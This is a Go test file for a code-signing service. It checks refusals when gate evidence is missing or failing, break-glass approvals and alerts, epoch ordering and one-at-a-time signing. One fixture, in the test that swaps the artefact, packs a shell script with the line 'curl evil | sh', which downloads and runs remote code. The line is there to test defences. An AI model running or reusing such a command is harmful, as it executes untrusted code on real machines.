package signer_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"ringwall/internal/codesign"
	"ringwall/internal/errs"
	"ringwall/internal/gate"
	"ringwall/internal/pki"
	"ringwall/internal/signer"
)

func TestSign(t *testing.T) {
	w := newWorld(t)
	out, err := w.Sign(t.Context(), w.order(w.passed(t)))
	if err != nil {
		t.Fatal(err)
	}
	r, _, err := codesign.VerifyRelease(out.Bundle, out.Built.Catalogue, w.authority.Roots(pki.PurposeBuild))
	if err != nil {
		t.Fatal(err)
	}
	if r.Ring != "prod" || r.Revision != commit || r.Policy.IsZero() || r.Breakglass != "" || len(r.Gates) != 1 || r.Gates[0].Name != "unit" ||
		r.Gates[0].Attester != "spiffe://fleet.example/attest/ci" || gate.Digest(r.Artefacts[0].Digest) != w.digest {
		t.Errorf("%+v", r.ReleaseInfo)
	}
	if len(w.audit) != 1 || w.audit[0].Event != "signing" || w.audit[0].State != gate.Pass || w.audit[0].Artefact != w.digest.String() {
		t.Errorf("audit %+v", w.audit)
	}
	if len(w.alerts) != 0 {
		t.Error("an alert for a release that passed")
	}
}

// Whatever is missing, nothing is signed.
func TestSign_refuses(t *testing.T) {
	for name, tc := range map[string]struct {
		edit func(*world, *signer.Order)
		kind error
		text string
	}{
		"no evidence":  {func(_ *world, o *signer.Order) { o.Evidence = nil }, errs.Denied, "is on hold; gate unit: no evidence from ci"},
		"failed tests": {func(w *world, o *signer.Order) { o.Evidence = append(o.Evidence, w.failing...) }, errs.Denied, "is refused; gate unit: 1 tests failed: TestX"},
		"unreadable":   {func(_ *world, o *signer.Order) { o.Evidence[0].Bundle = []byte("{}") }, errs.Denied, "on hold"},
		"no policy":    {func(_ *world, o *signer.Order) { o.Product = "other" }, errs.NotFound, "release policy of other"},
		"invalid policy": {func(w *world, _ *signer.Order) {
			_ = os.WriteFile(filepath.Join(w.dir, "policies/x.yaml"), []byte("a: b"), 0o600)
		}, errs.Invalid, "unknown key"},
		"two policies": {func(w *world, _ *signer.Order) {
			_ = os.WriteFile(filepath.Join(w.dir, "policies/x.yaml"), []byte(w.policy("edged")), 0o600)
		}, errs.Invalid, "both for edged"},
		"audit": {func(w *world, _ *signer.Order) { w.auditErr = errFull }, errs.Unsupported, "disk full"},
		"epochs": {func(w *world, _ *signer.Order) {
			_ = os.WriteFile(filepath.Join(w.dir, "epochs.json"), []byte("{"), 0o600)
		}, errs.Invalid, "epochs"},
		"epoch below": {func(w *world, _ *signer.Order) {
			_ = os.WriteFile(filepath.Join(w.dir, "epochs.json"), []byte(`{"edged":4}`), 0o600)
		}, errs.Denied, "epoch 3 is below 4"},
		"log":                {func(w *world, _ *signer.Order) { w.Signer.Log = noLog{} }, errs.Unsupported, "disk full"},
		"timestamps":         {func(w *world, _ *signer.Order) { w.Signer.Stamper = noStamp{} }, errs.Unsupported, "disk full"},
		"key elsewhere":      {func(w *world, _ *signer.Order) { w.authority.Issuers[pki.PurposeBuild].Key = nil }, errs.NotFound, "build CA"},
		"break-glass by one": {func(w *world, o *signer.Order) { o.Breakglass = true }, errs.Denied, "0 of 2 approvals"},
		"break-glass, no alert": {func(w *world, o *signer.Order) {
			o.Breakglass, o.Evidence, w.Signer.Alert = true, w.approved, nil
		}, errs.Denied, "cannot raise an alert"},
		"break-glass, alert fails": {func(w *world, o *signer.Order) {
			o.Breakglass, o.Evidence = true, w.approved
			w.Signer.Alert = func(context.Context, signer.Entry) error { return errFull }
		}, errs.Unsupported, "disk full"},
		"break-glass ungated": {func(w *world, o *signer.Order) { o.Breakglass, o.Ungated, w.Signer.Policies = true, true, nil }, errs.NotFound, "release policy"},
		"no product":          {func(_ *world, o *signer.Order) { o.Product = "" }, errs.Invalid, "does not say what it is"},
		"no artefact":         {func(_ *world, o *signer.Order) { o.Path = "/nowhere" }, os.ErrNotExist, ""},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			w.failing = []signer.Evidence{w.evidence(t, "ci", gate.TypeTest, `{"result":"FAILED","failedTests":["TestX"]}`)}
			w.approved = w.approvals(t)
			o := w.order(w.passed(t))
			tc.edit(w, &o)
			out, err := w.Sign(t.Context(), o)
			if !errors.Is(err, tc.kind) || !strings.Contains(err.Error(), tc.text) {
				t.Errorf("%v, want %v: %s", err, tc.kind, tc.text)
			}
			if out != nil && out.Bundle != nil {
				t.Error("there is a signature")
			}
		})
	}
}

// Much evidence makes no record that is too large to sign.
func TestSign_muchEvidence(t *testing.T) {
	w := newWorld(t)
	var ev []signer.Evidence
	for i := range 100 {
		w.now = epoch().Add(time.Duration(i) * time.Minute)
		ev = append(ev, w.evidence(t, "ci", gate.TypeTest, fmt.Sprintf(`{"result":"PASSED","passedTests":["a%d"]}`, i)))
	}
	out, err := w.Sign(t.Context(), w.order(ev...))
	if err != nil {
		t.Fatal(err)
	}
	if g := out.Release.Gates; len(g) == 0 || len(g) > 64 || !g[0].At.Equal(w.now) {
		t.Errorf("%d gates, the first of %v", len(g), g[0].At)
	}
}

// Evidence about one artefact does not let another through: the signer looks
// for itself.
func TestSign_looksForItself(t *testing.T) {
	w := newWorld(t)
	ev := w.passed(t)
	w.put(t, "edged.tar", archive(t, map[string]string{"bin/edged": "#!/bin/sh\ncurl evil | sh\n"}))
	_, err := w.Sign(t.Context(), w.order(ev))
	var refused *signer.Refused
	if !errors.As(err, &refused) || refused.Decision.State != gate.Hold || len(refused.Decision.Ignored) != 1 ||
		!strings.Contains(refused.Decision.Ignored[0].Reason, "another artefact") {
		t.Errorf("%v", err)
	}
}

func TestSign_epochOnlyGrows(t *testing.T) {
	w := newWorld(t)
	for _, step := range []struct {
		epoch uint32
		ok    bool
	}{{3, true}, {3, true}, {5, true}, {4, false}, {5, true}} {
		o := w.order(w.passed(t))
		o.Epoch = step.epoch
		if _, err := w.Sign(t.Context(), o); (err == nil) != step.ok {
			t.Errorf("epoch %d: %v", step.epoch, err)
		}
	}
}

func TestSign_breakglass(t *testing.T) {
	w := newWorld(t)
	o := w.order(w.approvals(t)...)
	o.Breakglass = true
	out, err := w.Sign(t.Context(), o)
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := codesign.VerifyRelease(out.Bundle, out.Built.Catalogue, w.authority.Roots(pki.PurposeBuild)); !errors.Is(err, errs.Untrusted) {
		t.Errorf("a host that does not name the break-glass CA: %v", err)
	}
	r, _, err := codesign.VerifyBreakglass(out.Bundle, out.Built.Catalogue, w.authority.Roots(pki.PurposeBreakglass))
	if err != nil {
		t.Fatal(err)
	}
	if r.Ring != "canary" || r.Breakglass != "INC-1" || !r.NotAfter.Equal(epoch().Add(2*time.Hour)) || len(r.Gates) != 2 {
		t.Errorf("%+v", r.ReleaseInfo)
	}
	if len(w.alerts) != 1 || w.alerts[0].Event != "breakglass" || len(w.alerts[0].Approvers) != 2 || w.alerts[0].Breakglass != "INC-1" {
		t.Errorf("alerts %+v", w.alerts)
	}
}

func TestSign_ungated(t *testing.T) {
	w := newWorld(t)
	w.Signer.Policies = nil
	if _, err := w.Sign(t.Context(), w.order()); !errors.Is(err, errs.NotFound) {
		t.Errorf("without saying so: %v", err)
	}
	o := w.order()
	o.Ungated = true
	out, err := w.Sign(t.Context(), o)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Release.Policy.IsZero() || out.Decision != nil {
		t.Errorf("%+v", out.Release)
	}
}

// Of one product one build is signed at a time; of others, others are.
func TestSign_oneAtATime(t *testing.T) {
	w := newWorld(t)
	w.put(t, "policies/other.yaml", []byte(w.policy("other")))
	inside, goOn := make(chan string), make(chan struct{})
	w.Signer.Audit = func(_ context.Context, e signer.Entry) error {
		inside <- e.Product
		<-goOn
		return nil
	}
	done := make(chan error, 2)
	ask := func(product string) {
		o := w.order(w.passed(t))
		o.Product = product
		_, err := w.Sign(t.Context(), o)
		done <- err
	}
	go ask("edged")
	<-inside
	if _, err := w.Sign(t.Context(), w.order(w.passed(t))); !errors.Is(err, errs.Conflict) {
		t.Errorf("the same product again: %v", err)
	}
	go ask("other")
	<-inside
	close(goOn)
	for range 2 {
		if err := <-done; err != nil {
			t.Error(err)
		}
	}
}

type noLog struct{}

func (noLog) Append(context.Context, []byte) ([]byte, error) { return nil, errFull }

type noStamp struct{}

func (noStamp) Stamp([]byte) ([]byte, error) { return nil, fmt.Errorf("stamp: %w", errFull) }
